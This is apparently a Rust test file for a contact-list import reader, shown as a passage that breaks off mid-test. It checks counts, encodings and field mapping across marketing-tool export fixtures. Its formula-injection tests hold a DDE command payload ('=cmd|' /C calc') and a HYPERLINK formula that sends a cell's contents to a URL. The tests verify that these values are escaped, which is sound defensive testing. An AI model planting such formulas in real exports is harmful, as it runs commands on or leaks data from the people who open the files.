//! Reads every file of the export corpus in `tests/fixtures/corpus/` through
//! `drippulse::input::read_source`, and checks the counts and values a
//! correct reader must produce. The counts are contacts to enroll,
//! duplicates within the file, rejects per reason and blank lines.
//! Duplicates are found here by `Contact.key`, and the first occurrence wins.

use std::collections::{BTreeMap, HashSet};
use std::path::PathBuf;

use drippulse::input::{
    read_source, Contact, EncodingChoice, Field, KeySpec, Location, NonDataKind, ReadOptions,
    Record, Reject, RejectReason, RejectsWriter, Source, SourceSummary,
};
use serde_json::Value;

#[derive(Default)]
struct Outcome {
    contacts: Vec<(Location, Contact)>,
    rejects: Vec<Reject>,
    blanks: Vec<Location>,
    non_data: Vec<(Location, NonDataKind)>,
    warnings: Vec<String>,
    summary: SourceSummary,
    /// The error that stopped the read; the records before it are kept,
    /// which shows what a lenient reader would have produced.
    error: Option<String>,
}

impl Outcome {
    /// Splits contacts into first occurrences and later duplicates by key.
    fn dedupe(&self) -> (Vec<&Contact>, Vec<&Contact>) {
        let mut seen = HashSet::new();
        let (mut unique, mut duplicates) = (Vec::new(), Vec::new());
        for (_, contact) in &self.contacts {
            if seen.insert(contact.key.clone()) {
                unique.push(contact);
            } else {
                duplicates.push(contact);
            }
        }
        (unique, duplicates)
    }

    fn reject_counts(&self) -> BTreeMap<&'static str, usize> {
        let mut counts = BTreeMap::new();
        for reject in &self.rejects {
            *counts.entry(reject.reason.code()).or_insert(0) += 1;
        }
        counts
    }

    fn non_data_counts(&self) -> BTreeMap<&'static str, usize> {
        let mut counts = BTreeMap::new();
        for (_, kind) in &self.non_data {
            *counts.entry(kind.code()).or_insert(0) += 1;
        }
        counts
    }

    fn contact(&self, email: &str) -> &Contact {
        self.contacts
            .iter()
            .map(|(_, contact)| contact)
            .find(|contact| contact.email == email)
            .unwrap_or_else(|| panic!("no contact with email {email:?}"))
    }
}

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/corpus")
        .join(name)
}

fn options() -> ReadOptions {
    ReadOptions::default()
}

fn utf8_only() -> ReadOptions {
    ReadOptions {
        encoding: EncodingChoice::from_label("utf-8").expect("label"),
        ..ReadOptions::default()
    }
}

fn windows_1252() -> ReadOptions {
    ReadOptions {
        encoding: EncodingChoice::from_label("windows-1252").expect("label"),
        ..ReadOptions::default()
    }
}

fn no_header() -> ReadOptions {
    ReadOptions {
        no_header: true,
        ..ReadOptions::default()
    }
}

fn no_header_column_1() -> ReadOptions {
    ReadOptions {
        no_header: true,
        email_column: Some(1),
        ..ReadOptions::default()
    }
}

fn email_column_1() -> ReadOptions {
    ReadOptions {
        email_column: Some(1),
        ..ReadOptions::default()
    }
}

/// Reads a source, keeping every record and the error, if any.
fn read_source_outcome(source: &Source, options: &ReadOptions) -> Outcome {
    let mut outcome = Outcome::default();
    let result = read_source(source, options, &mut |record| {
        match record {
            Record::Contact(location, contact) => outcome.contacts.push((location, contact)),
            Record::Reject(reject) => outcome.rejects.push(reject),
            Record::Blank(location) => outcome.blanks.push(location),
            Record::NonData(location, kind) => outcome.non_data.push((location, kind)),
            Record::Warning(message) => outcome.warnings.push(message),
            Record::Header(_) => {}
        }
        Ok(())
    });
    match result {
        Ok(summary) => outcome.summary = summary,
        Err(error) => outcome.error = Some(format!("{error:#}")),
    }
    outcome
}

fn read_with(name: &str, options: &ReadOptions) -> Outcome {
    read_source_outcome(&Source::File(fixture(name)), options)
}

fn read(name: &str) -> Outcome {
    let outcome = read_with(name, &options());
    if let Some(error) = &outcome.error {
        panic!("{name}: {error}");
    }
    outcome
}

/// Expected outcome for one corpus file read with one set of options.
struct Expected {
    file: &'static str,
    options: fn() -> ReadOptions,
    /// Substrings of the error that must stop the read (the file, the line
    /// and the fix); empty when the read must succeed. For a failing read,
    /// the counts are of the records passed on before the error.
    error: &'static [&'static str],
    to_enroll: usize,
    duplicates: usize,
    rejects: &'static [(&'static str, usize)],
    blank: usize,
    non_data: &'static [(&'static str, usize)],
}

const fn ok(
    file: &'static str,
    options: fn() -> ReadOptions,
    [to_enroll, duplicates, blank]: [usize; 3],
    rejects: &'static [(&'static str, usize)],
    non_data: &'static [(&'static str, usize)],
) -> Expected {
    Expected {
        file,
        options,
        error: &[],
        to_enroll,
        duplicates,
        rejects,
        blank,
        non_data,
    }
}

const fn fails(
    file: &'static str,
    options: fn() -> ReadOptions,
    error: &'static [&'static str],
    to_enroll: usize,
    rejects: &'static [(&'static str, usize)],
) -> Expected {
    Expected {
        file,
        options,
        error,
        to_enroll,
        duplicates: 0,
        rejects,
        blank: 0,
        non_data: &[],
    }
}

/// Every corpus file with the outcomes its documented policy gives: counts
/// as [to enroll, duplicates in the file, blank lines], then rejects and
/// non-data lines by reason.
const EXPECTED: &[Expected] = &[
    ok(
        "fmt_mailchimp_subscribed.csv",
        options,
        [10, 0, 0],
        &[],
        &[],
    ),
    fails(
        "fmt_mailchimp_unsubscribed.csv",
        options,
        &[
            "fmt_mailchimp_unsubscribed.csv:",
            "unsubscribed",
            "UNSUB_TIME",
            "Export the subscribed members",
        ],
        0,
        &[("not_subscribed", 6)],
    ),
    ok(
        "fmt_hubspot_export.csv",
        options,
        [9, 0, 0],
        &[("missing_email", 1)],
        &[],
    ),
    ok(
        "fmt_hubspot_import_template.csv",
        options,
        [5, 0, 0],
        &[],
        &[],
    ),
    ok(
        "fmt_google_contacts.csv",
        options,
        [7, 0, 0],
        &[("missing_email", 1)],
        &[],
    ),
    ok(
        "fmt_outlook_desktop_cp1252.csv",
        options,
        [5, 0, 0],
        &[("invalid_email", 1)],
        &[],
    ),
    ok(
        "fmt_outlook_desktop_cp1252.csv",
        windows_1252,
        [5, 0, 0],
        &[("invalid_email", 1)],
        &[],
    ),
    fails(
        "fmt_outlook_desktop_cp1252.csv",
        utf8_only,
        &[
            "fmt_outlook_desktop_cp1252.csv, line 2",
            "invalid UTF-8",
            "--encoding windows-1252",
        ],
        0,
        &[],
    ),
    ok(
        "fmt_outlook_com.csv",
        options,
        [5, 0, 0],
        &[("missing_email", 1)],
        &[],
    ),
    ok(
        "fmt_linkedin_connections.csv",
        options,
        [4, 0, 0],
        &[("missing_email", 6)],
        &[("preamble", 3)],
    ),
    ok("fmt_excel_csv_utf8_bom.csv", options, [8, 0, 0], &[], &[]),
    ok(
        "fmt_excel_eu_semicolon_cp1252.csv",
        options,
        [8, 0, 0],
        &[],
        &[],
    ),
    ok(
        "fmt_excel_eu_semicolon_cp1252.csv",
        windows_1252,
        [8, 0, 0],
        &[],
        &[],
    ),
    fails(
        "fmt_excel_eu_semicolon_cp1252.csv",
        utf8_only,
        &[
            "fmt_excel_eu_semicolon_cp1252.csv, line 2",
            "invalid UTF-8",
            "--encoding windows-1252",
        ],
        0,
        &[],
    ),
    ok(
        "fmt_excel_sep_hint.csv",
        options,
        [5, 0, 0],
        &[],
        &[("sep_hint", 1)],
    ),
    ok("fmt_google_sheets.csv", options, [8, 0, 0], &[], &[]),
    ok(
        "fmt_generic_contacts.json",
        options,
        [4, 1, 0],
        &[("invalid_email", 1), ("missing_email", 2)],
        &[],
    ),
    ok(
        "fmt_mailchimp_api_members.json",
        options,
        [3, 0, 0],
        &[("not_subscribed", 2)],
        &[],
    ),
    fails(
        "bug_bom_headerless_first_email.csv",
        options,
        &[
            "bug_bom_headerless_first_email.csv, line 1",
            "data, not a header",
            "--no-header",
        ],
        0,
        &[],
    ),
    ok(
        "bug_bom_headerless_first_email.csv",
        no_header_column_1,
        [5, 0, 0],
        &[],
        &[],
    ),
    ok("bug_bom_quoted_header.csv", options, [5, 0, 0], &[], &[]),
    ok(
        "bug_case_whitespace_duplicates.csv",
        options,
        [5, 8, 0],
        &[("invalid_email", 1)],
        &[],
    ),
    ok(
        "bug_invalid_emails.csv",
        options,
        [8, 0, 0],
        &[("invalid_email", 21), ("missing_email", 1)],
        &[],
    ),
    ok("bug_quoted_newlines.csv", options, [6, 0, 0], &[], &[]),
    fails(
        "bug_runaway_quote.csv",
        options,
        &[
            "bug_runaway_quote.csv, line 3",
            "unterminated quoted field",
            "column 4",
            "closing quote",
        ],
        1,
        &[],
    ),
    ok(
        "bug_bare_quotes_in_unquoted_field.csv",
        options,
        [5, 0, 0],
        &[],
        &[],
    ),
    ok("bug_latin1_no_bom.csv", options, [6, 0, 0], &[], &[]),
    ok("bug_latin1_no_bom.csv", windows_1252, [6, 0, 0], &[], &[]),
    fails(
        "bug_latin1_no_bom.csv",
        utf8_only,
        &[
            "bug_latin1_no_bom.csv, line 2",
            "byte 0xE9",
            "--encoding windows-1252",
        ],
        0,
        &[],
    ),
    fails(
        "bug_mixed_utf8_cp1252.csv",
        options,
        &[
            "bug_mixed_utf8_cp1252.csv, line 5",
            "byte offset 140",
            "byte 0xFC",
            "mixes encodings",
        ],
        0,
        &[],
    ),
    ok(
        "bug_utf16le_tab_unicode_text.csv",
        options,
        [5, 0, 0],
        &[],
        &[],
    ),
    ok("bug_single_column_emails.csv", options, [7, 1, 0], &[], &[]),
    fails(
        "bug_plain_email_list_no_header.csv",
        options,
        &["bug_plain_email_list_no_header.csv, line 1", "--no-header"],
        0,
        &[],
    ),
    ok(
        "bug_plain_email_list_no_header.csv",
        no_header,
        [6, 0, 0],
        &[],
        &[],
    ),
    ok(
        "bug_blank_and_ragged_rows.csv",
        options,
        [4, 0, 5],
        &[("field_count_mismatch", 1), ("missing_email", 1)],
        &[],
    ),
    fails(
        "bug_duplicate_header_names.csv",
        options,
        &[
            "bug_duplicate_header_names.csv, line 1",
            "columns 1 (Email) and 4 (Email)",
            "--email-column 1",
        ],
        0,
        &[],
    ),
    ok(
        "bug_duplicate_header_names.csv",
        email_column_1,
        [5, 0, 0],
        &[],
        &[],
    ),
    fails(
        "bug_no_email_column.csv",
        options,
        &[
            "bug_no_email_column.csv, line 1",
            "no email column found",
            "columns are: Name, Phone, Company, City",
            "--map email=",
        ],
        0,
        &[],
    ),
    ok(
        "bug_formula_injection.csv",
        options,
        [5, 0, 0],
        &[("invalid_email", 1)],
        &[],
    ),
    ok(
        "bug_very_long_field.csv",
        options,
        [4, 0, 0],
        &[("invalid_email", 1)],
        &[],
    ),
    ok("bug_json_with_bom.json", options, [5, 0, 0], &[], &[]),
    ok("scenario_batch.csv", options, [11, 1, 0], &[], &[]),
];

#[test]
fn corpus_counts_match_expected() {
    let mut failures = Vec::new();
    for expected in EXPECTED {
        let outcome = read_with(expected.file, &(expected.options)());
        let label = format!(
            "{} (error expected: {})",
            expected.file,
            !expected.error.is_empty()
        );
        match (&outcome.error, expected.error.is_empty()) {
            (Some(error), true) => failures.push(format!("{label}: unexpected error {error}")),
            (None, false) => failures.push(format!("{label}: expected an error")),
            (Some(error), false) => {
                for needle in expected.error {
                    if !error.contains(needle) {
                        failures.push(format!("{label}: error lacks {needle:?}: {error}"));
                    }
                }
            }
            (None, true) => {}
        }

        let (unique, duplicates) = outcome.dedupe();
        let rejects = outcome.reject_counts();
        let non_data = outcome.non_data_counts();
        let expected_rejects: BTreeMap<&str, usize> = expected.rejects.iter().copied().collect();
        let expected_non_data: BTreeMap<&str, usize> = expected.non_data.iter().copied().collect();
        let actual = (
            unique.len(),
            duplicates.len(),
            &rejects,
            outcome.blanks.len(),
            &non_data,
        );
        let expected_counts = (
            expected.to_enroll,
            expected.duplicates,
            &expected_rejects,
            expected.blank,
            &expected_non_data,
        );
        if actual != expected_counts {
            failures.push(format!(
                "{label}: got (enroll, dup, rejects, blank, non-data) = {actual:?}, expected \
                 {expected_counts:?}; rejects: {:?}",
                outcome
                    .rejects
                    .iter()
                    .map(|reject| format!("line {}: {}", reject.location.line, reject.message))
                    .collect::<Vec<_>>()
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn corpus_table_covers_every_fixture() {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/corpus");
    let listed: HashSet<&str> = EXPECTED.iter().map(|expected| expected.file).collect();
    for entry in std::fs::read_dir(dir).expect("corpus dir") {
        let name = entry
            .expect("entry")
            .file_name()
            .to_string_lossy()
            .into_owned();
        assert!(listed.contains(name.as_str()), "{name} is not in EXPECTED");
    }
}

#[test]
fn bom_is_not_in_header_or_address() {
    for file in ["bug_bom_quoted_header.csv", "fmt_excel_csv_utf8_bom.csv"] {
        let outcome = read(file);
        let first_header = outcome.summary.header.first().cloned().unwrap_or_default();
        assert_eq!(first_header, "Email", "{file}");
        for (_, contact) in &outcome.contacts {
            assert!(
                !contact.email.contains('\u{FEFF}'),
                "{file}: {:?}",
                contact.email
            );
            assert!(!contact.email.contains('"'), "{file}: {:?}", contact.email);
        }
    }
}

#[test]
fn json_bom_is_stripped() {
    let outcome = read("bug_json_with_bom.json");
    let (location, contact) = outcome.contacts.first().expect("a contact");
    assert_eq!(contact.email, "ada@example.com");
    assert_eq!(location.line, 2);
}

#[test]
fn google_contacts_takes_first_of_list() {
    let outcome = read("fmt_google_contacts.csv");
    let ada = outcome.contact("ada@example.com");
    assert_eq!(
        ada.fields.get("first_name"),
        Some(&Value::from("Ada")),
        "{:?}",
        ada.fields
    );
    assert_eq!(
        ada.fields.get("company_name"),
        Some(&Value::from("Example Analytics"))
    );
    assert!(outcome
        .contacts
        .iter()
        .all(|(_, contact)| !contact.email.contains(":::")));
    // Row 4 has only a second address.
    outcome.contact("edsger.demo@example.com");
    let missing = outcome.rejects.first().expect("one reject");
    assert_eq!(missing.reason, RejectReason::MissingEmail);
    assert_eq!(missing.location.line, 5);
}

#[test]
fn outlook_falls_back_to_second_address() {
    let outcome = read("fmt_outlook_com.csv");
    outcome.contact("alan.p@example.com");
    let grace = outcome.contact("grace@example.org");
    assert_eq!(
        grace.fields.get("E-mail 2 Address"),
        Some(&Value::from("grace.home@example.com"))
    );
}

#[test]
fn quoted_newlines_are_kept() {
    let outcome = read("bug_quoted_newlines.csv");
    let ada = outcome.contact("ada@example.com");
    assert_eq!(
        ada.fields.get("notes"),
        Some(&Value::from("Line one\nLine two"))
    );
    let grace = outcome.contact("grace@example.org");
    assert_eq!(
        grace.fields.get("last_name"),
        Some(&Value::from("Sample\nJr."))
    );
    let alan = outcome.contact("alan@example.com");
    assert_eq!(
        alan.fields.get("notes"),
        Some(&Value::from("Address:\r\n1 Example Street\r\nSpringfield"))
    );
    let lines: Vec<u64> = outcome
        .contacts
        .iter()
        .map(|(location, _)| location.line)
        .collect();
    assert_eq!(lines, vec![2, 4, 6, 9, 11, 12]);
}

#[test]
fn formula_values_are_sent_verbatim() {
    let outcome = read("bug_formula_injection.csv");
    let ada = outcome.contact("ada@example.com");
    assert_eq!(
        ada.fields.get("first_name"),
        Some(&Value::from(
            "=HYPERLINK(\"http://example.com/?x=\"&A1,\"Click\")"
        ))
    );
    let grace = outcome.contact("grace@example.org");
    assert_eq!(grace.fields.get("last_name"), Some(&Value::from("-Sample")));
    assert_eq!(
        grace.fields.get("company_name"),
        Some(&Value::from("+1 555 0102 Corp"))
    );
    let alan = outcome.contact("alan@example.com");
    assert_eq!(alan.fields.get("first_name"), Some(&Value::from("@Alan")));
    assert_eq!(alan.fields.get("company_name"), Some(&Value::from("=1+1")));
    let edsger = outcome.contact("edsger@example.org");
    assert_eq!(
        edsger.fields.get("notes"),
        Some(&Value::from("\t=SUM(1,2)"))
    );
    let barbara = outcome.contact("barbara@example.com");
    assert_eq!(
        barbara.fields.get("company_name"),
        Some(&Value::from("'=Already Escaped"))
    );
}

#[test]
fn formula_reject_is_neutralized_in_rejects_file() {
    let outcome = read("bug_formula_injection.csv");
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("rejects.csv");
    let mut writer = RejectsWriter::create(&path).expect("create");
    for reject in &outcome.rejects {
        writer
            .write(reject, &outcome.summary.header)
            .expect("write");
    }
    writer.finish().expect("finish");

    let written = std::fs::read_to_string(&path).expect("read");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(written.as_bytes());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|row| row.expect("csv row").iter().map(str::to_string).collect())
        .collect();
    assert_eq!(
        rows.first().map(Vec::as_slice),
        Some(
            &[
                "file",
                "line",
                "reason",
                "message",
                "email",
                "first_name",
                "last_name",
                "company",
                "notes"
            ]
            .map(str::to_string)[..]
        )
    );
    let row = rows.get(1).expect("reject row");
    assert_eq!(row.get(1).map(String::as_str), Some("5"));
    assert_eq!(row.get(2).map(String::as_str), Some("invalid_email"));
    assert_eq!(row.get(4).map(String::as_str), Some("'=cmd|' /C calc'!A0"));
    assert_eq!(row.get(5).map(String::as_str), Some("Mallory"));
}

#[test]
fn custom_fields_keep_header_names() {
    let outcome = read("fmt_mailchimp_subscribed.csv");
    let (_, first) = outcome.contacts.first().expect("a contact");
    let keys: Vec<&str> = first.fields.keys().map(String::as_str).collect();
    assert_eq!(keys.first(), Some(&"email"));
    assert!(keys.contains(&"first_name"), "{keys:?}");
    assert!(!keys.contains(&"First Name"), "{keys:?}");
    assert!(first.fields.values().all(|value| value != &Value::from("")));
}

#[test]
fn hubspot_owner_is_not_the_address() {
    let outcome = read("fmt_hubspot_export.csv");
    let first = &outcome.contacts.first().expect("a contact").1;
    assert_eq!(first.email, "ada@example.com");
    assert_eq!(
        first.fields.get("Contact owner"),
        Some(&Value::from("owner.two@example.com"))
    );
    assert_eq!(
        first.fields.get("company_name"),
        Some(&Value::from("Example Analytics"))
    );
}

#[test]
fn json_scalars_keep_their_types() {
    let outcome = read("fmt_generic_contacts.json");
    let grace = outcome.contact("grace@example.org");
    assert_eq!(grace.fields.get("plan"), Some(&Value::from("pro")));
    assert_eq!(grace.fields.get("seats"), Some(&Value::from(5)));
    assert_eq!(grace.fields.get("beta"), Some(&Value::from(true)));
    let ada = outcome.contact("ada@example.com");
    assert_eq!(
        ada.fields.get("company_name"),
        Some(&Value::from("Example Analytics"))
    );
    let wrong_type = outcome
        .rejects
        .iter()
        .find(|reject| reject.reason == RejectReason::InvalidEmail)
        .expect("invalid_email reject");
    assert!(
        wrong_type.message.contains("12345"),
        "{}",
        wrong_type.message
    );
    assert_eq!(wrong_type.location.line, 6);
}

#[test]
fn mailchimp_members_map_merge_fields() {
    let outcome = read("fmt_mailchimp_api_members.json");
    let ada = outcome.contact("ada@example.com");
    assert_eq!(ada.fields.get("first_name"), Some(&Value::from("Ada")));
    assert_eq!(
        ada.fields.get("company_name"),
        Some(&Value::from("Example Analytics"))
    );
    let grace = outcome.contact("grace@example.org");
    assert_eq!(grace.fields.get("company_name"), None);
}

#[test]
fn case_variants_share_one_key() {
    let outcome = read("bug_case_whitespace_duplicates.csv");
    let (unique, _) = outcome.dedupe();
    let keys: Vec<&str> = unique.iter().map(|contact| contact.key.as_str()).collect();
    assert_eq!(
        keys,
        vec![
            "ada@example.com",
            "grace.sample@example.org",
            "alan.placeholder@example.com",
            "alan.placeholder+news@example.com",
            "alanplaceholder@example.com",
        ]
    );
    let invalid = outcome.rejects.first().expect("a reject");
    assert_eq!(invalid.location.line, 15);
    assert!(
        invalid.message.contains("\"ada @example.com\""),
        "{}",
        invalid.message
    );
}

#[test]
fn blank_and_ragged_lines_are_located() {
    let outcome = read("bug_blank_and_ragged_rows.csv");
    let blank: Vec<u64> = outcome
        .blanks
        .iter()
        .map(|location| location.line)
        .collect();
    assert_eq!(blank, vec![3, 4, 7, 11, 12]);
    let rejected: Vec<(u64, RejectReason)> = outcome
        .rejects
        .iter()
        .map(|reject| (reject.location.line, reject.reason))
        .collect();
    assert_eq!(
        rejected,
        vec![
            (5, RejectReason::FieldCountMismatch),
            (10, RejectReason::MissingEmail)
        ]
    );
}

#[test]
fn very_long_field_is_kept_whole() {
    let outcome = read("bug_very_long_field.csv");
    let longest = outcome
        .contacts
        .iter()
        .filter_map(|(_, contact)| contact.fields.get("notes"))
        .filter_map(Value::as_str)
        .map(str::len)
        .max();
    assert!(longest.unwrap_or(0) >= 70_000, "{longest:?}");
}

#[test]
fn summary_has_digest_and_size() {
    let outcome = read("bug_bom_quoted_header.csv");
    assert_eq!(outcome.summary.bytes, 266);
    assert_eq!(outcome.summary.sha256.len(), 64);
    assert!(outcome
        .summary
        .mapping
        .contains(&("Email".to_string(), "email".to_string())));
}

#[test]
fn duplicate_email_headers_resolved_by_map() {
    let mut options = options();
    options.column_map = vec![(Field::Email, "1".to_string())];
    let outcome = read_with("bug_duplicate_header_names.csv", &options);
    assert_eq!(outcome.error, None);
    assert_eq!(outcome.contacts.len(), 5);
    assert_eq!(
        outcome.contact("ada@example.com").fields.get("Email"),
        Some(&Value::from("ada.home@example.org"))
    );
}

#[test]
fn duplicate_email_headers_resolved_by_email_column() {
    let outcome = read_with("bug_duplicate_header_names.csv", &email_column_1());
    assert_eq!(outcome.error, None);
    let ada = outcome.contact("ada@example.com");
    assert_eq!(
        ada.fields.get("Email"),
        Some(&Value::from("ada.home@example.org"))
    );
}

#[test]
fn runaway_quote_keeps_rows_before_it() {
    let outcome = read_with("bug_runaway_quote.csv", &options());
    let lines: Vec<u64> = outcome
        .contacts
        .iter()
        .map(|(location, _)| location.line)
        .collect();
    assert_eq!(lines, vec![2]);
    let message = outcome.error.unwrap_or_default();
    assert!(
        message.contains("unterminated quoted field starting in column 4 (company)"),
        "{message}"
    );
}

#[test]
fn windows_1252_is_detected_and_decoded() {
    let outcome = read("bug_latin1_no_bom.csv");
    let warning = outcome.warnings.first().cloned().unwrap_or_default();
    assert!(
        warning.contains("bug_latin1_no_bom.csv, line 2"),
        "{warning}"
    );
    assert!(warning.contains("Windows-1252"), "{warning}");
    let names: Vec<String> = outcome
        .contacts
        .iter()
        .filter_map(|(_, contact)| {
            let first = contact.fields.get("first_name")?.as_str()?;
            let last = contact.fields.get("last_name")?.as_str()?;
            Some(format!("{first} {last}"))
        })
        .collect();
    assert!(
        names.iter().any(|name| name.contains("Ren\u{e9}e")),
        "{names:?}"
    );
    assert!(
        names.iter().any(|name| name.contains("O\u{2019}Example")),
        "{names:?}"
    );
    assert!(
        names
            .iter()
            .all(|name| !name.contains('\u{FFFD}') && !name.contains('\u{92}')),
        "{names:?}"
    );
}

#[test]
fn european_excel_values_arrive_verbatim() {
    let outcome = read_with("fmt_excel_eu_semicolon_cp1252.csv", &windows_1252());
    assert_eq!(outcome.error, None);
    assert!(outcome.warnings.is_empty(), "{:?}", outcome.warnings);
    let values: Vec<&Value> = outcome
        .contacts
        .iter()
        .flat_map(|(_, contact)| contact.fields.values())
        .collect();
    assert!(values.contains(&&Value::from("1234,50")), "{values:?}");
    assert!(
        values
            .iter()
            .any(|value| value.as_str().is_some_and(|text| text.contains('\u{20AC}'))),
        "{values:?}"
    );
    assert!(
        values.contains(&&Value::from("Beispiel; Tochter GmbH")),
        "{values:?}"
    );
}

#[test]
fn outlook_desktop_apostrophe_is_windows_1252() {
    let outcome = read("fmt_outlook_desktop_cp1252.csv");
    let has_right_quote = outcome.contacts.iter().any(|(_, contact)| {
        contact
            .fields
            .get("last_name")
            .and_then(Value::as_str)
            .is_some_and(|name| name.contains('\u{2019}'))
    });
    assert!(has_right_quote);
}

#[test]
fn utf16_is_decoded_with_tabs() {
    let outcome = read("bug_utf16le_tab_unicode_text.csv");
    assert_eq!(
        outcome.summary.header.first().map(String::as_str),
        Some("Email")
    );
    let (location, first) = outcome.contacts.first().expect("a contact");
    assert_eq!(location.line, 2);
    assert!(first.email.is_ascii(), "{:?}", first.email);
    assert!(outcome.warnings.is_empty(), "{:?}", outcome.warnings);
}

#[test]
fn linkedin_preamble_lines_are_located() {
    let outcome = read("fmt_linkedin_connections.csv");
    let skipped: Vec<(u64, NonDataKind)> = outcome
        .non_data
        .iter()
        .map(|(location, kind)| (location.line, *kind))
        .collect();
    assert_eq!(
        skipped,
        vec![
            (1, NonDataKind::Preamble),
            (2, NonDataKind::Preamble),
            (3, NonDataKind::Preamble)
        ]
    );
    let first_reject = outcome.rejects.first().expect("a reject");
    assert_eq!(first_reject.location.line, 5);
    assert_eq!(first_reject.reason, RejectReason::MissingEmail);
    let grace = outcome.contact("grace.sample@example.org");
    assert_eq!(
        grace.fields.get("company_name"),
        Some(&Value::from("Sample Ltd, Research"))
    );
}

#[test]
fn sep_hint_line_is_skipped() {
    let outcome = read("fmt_excel_sep_hint.csv");
    assert_eq!(
        outcome.non_data.first().map(|(location, _)| location.line),
        Some(1)
    );
    let (location, first) = outcome.contacts.first().expect("a contact");
    assert_eq!(location.line, 3);
    assert_eq!(
        first.fields.get("company_name"),
        Some(&Value::from("Example Ltd"))
    );
}

#[test]
fn headerless_bom_file_keeps_first_address() {
    let outcome = read_with("bug_bom_headerless_first_email.csv", &no_header_column_1());
    assert_eq!(outcome.error, None);
    let (location, first) = outcome.contacts.first().expect("a contact");
    assert_eq!(first.email, "ada@example.org");
    assert_eq!(location.line, 1);
    // Without --map, only the address column is sent.
    assert_eq!(first.fields.len(), 1, "{:?}", first.fields);
}

#[test]
fn unsubscribed_export_names_duplicate_columns() {
    let outcome = read_with("fmt_mailchimp_unsubscribed.csv", &options());
    let warnings = outcome.warnings.join("\n");
    assert!(
        warnings.contains("UNSUB_CAMPAIGN_ID\" (columns 4 and 8)"),
        "{warnings}"
    );
    assert!(
        warnings.contains("UNSUB_REASON\" (columns 5 and 9)"),
        "{warnings}"
    );
    assert!(outcome.contacts.is_empty());
}

#[test]
fn mailchimp_status_rejects_name_status() {
    let outcome = read("fmt_mailchimp_api_members.json");
    let messages: Vec<&str> = outcome
        .rejects
        .iter()
        .map(|reject| reject.message.as_str())
        .collect();
    assert!(
        messages.iter().any(|m| m.contains("\"unsubscribed\"")),
        "{messages:?}"
    );
    assert!(
        messages.iter().any(|m| m.contains("\"cleaned\"")),
        "{messages:?}"
    );
}

/// Reads `content` from a temporary file with the given extension.
fn read_bytes_with(content: &[u8], extension: &str, options: &ReadOptions) -> Outcome {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join(format!("input.{extension}"));
    std::fs::write(&path, content).expect("write");
    read_source_outcome(&Source::File(path), options)
}

/// Reads `content` with the default options, failing on an error.
fn read_bytes(content: &[u8], extension: &str) -> Result<Outcome, String> {
    let outcome = read_bytes_with(content, extension, &options());
    match outcome.error.clone() {
        Some(error) => Err(error),
        None => Ok(outcome),
    }
}

#[test]
fn cr_only_line_endings_are_counted() {
    let outcome = read_bytes(
        b"email;name\ra@example.com;A\r\rb@example.com;\"B\rX\"\rc@example.com;C",
        "csv",
    )
    .expect("read");
    let lines: Vec<u64> = outcome
        .contacts
        .iter()
        .map(|(location, _)| location.line)
        .collect();
    assert_eq!(lines, vec![2, 4, 6]);
    let blank: Vec<u64> = outcome
        .blanks
        .iter()
        .map(|location| location.line)
        .collect();
    assert_eq!(blank, vec![3]);
    assert_eq!(
        outcome.contact("b@example.com").fields.get("name"),
        Some(&Value::from("B\rX"))
    );
}

#[test]
fn forced_delimiter_overrides_detection() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("pipes.csv");
    std::fs::write(&path, "email|note,x\na@example.com|one,two\n").expect("write");
    let mut options = options();
    options.delimiter = Some(b'|');
    let mut contacts = Vec::new();
    read_source(&Source::File(path), &options, &mut |record| {
        if let Record::Contact(_, contact) = record {
            contacts.push(contact);
        }
        Ok(())
    })
    .expect("read");
    let contact = contacts.first().expect("a contact");
    assert_eq!(contact.fields.get("note,x"), Some(&Value::from("one,two")));
}

#[test]
fn ndjson_items_and_blank_lines() {
    let content = b"{\"email\":\"a@example.com\",\"x\":[1]}\n\n[1]\n{\"email\":\"b@example.com\",\"lead_ref\":7}\r\n";
    let outcome = read_bytes(content, "ndjson").expect("read");
    let blank: Vec<u64> = outcome
        .blanks
        .iter()
        .map(|location| location.line)
        .collect();
    assert_eq!(blank, vec![2]);
    let rejected: Vec<(u64, RejectReason)> = outcome
        .rejects
        .iter()
        .map(|reject| (reject.location.line, reject.reason))
        .collect();
    assert_eq!(
        rejected,
        vec![
            (1, RejectReason::InvalidJson),
            (3, RejectReason::InvalidJson)
        ]
    );
    let b = outcome.contact("b@example.com");
    assert_eq!(b.lead_ref.as_deref(), Some("7"));
    assert_eq!(b.fields.get("lead_ref"), Some(&Value::from(7)));
}

#[test]
fn json_syntax_error_names_position() {
    let error = read_bytes(
        b"[{\"email\":\"a@example.com\"},\n 5,\n {\"email\": \"x\"\n",
        "json",
    )
    .err()
    .expect("syntax error");
    let message = format!("{error:#}");
    assert!(message.contains("input.json, line 4"), "{message}");
    assert!(message.contains("invalid JSON"), "{message}");
}

#[test]
fn json_non_object_item_is_rejected() {
    let outcome = read_bytes(
        b"[\n\"a@example.com\",\n{\"email\":\"b@example.com\"}\n]",
        "json",
    )
    .expect("read");
    let reject = outcome.rejects.first().expect("a reject");
    assert_eq!(reject.reason, RejectReason::InvalidJson);
    assert_eq!(reject.location.line, 2);
    let (location, _) = outcome.contacts.first().expect("a contact");
    assert_eq!(location.line, 3);
}

#[test]
fn json_object_without_members_names_keys() {
    let error = read_bytes(b"{\"list_id\":\"x\",\"total_items\":3}", "json")
        .err()
        .expect("shape error");
    let message = format!("{error:#}");
    assert!(
        message.contains("\"list_id\", \"total_items\""),
        "{message}"
    );
    assert!(
        message.contains("no array under \"results\", \"members\", \"contacts\" or \"data\""),
        "{message}"
    );
}

#[test]
fn json_top_level_scalar_is_an_error() {
    let error = read_bytes(b"\"ada@example.com\"", "json")
        .err()
        .expect("shape error");
    let message = format!("{error:#}");
    assert!(message.contains("input.json, line 1"), "{message}");
    assert!(
        message.contains("JSON array of contact objects"),
        "{message}"
    );
}

#[test]
fn key_column_gives_contact_key() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("keys.csv");
    std::fs::write(
        &path,
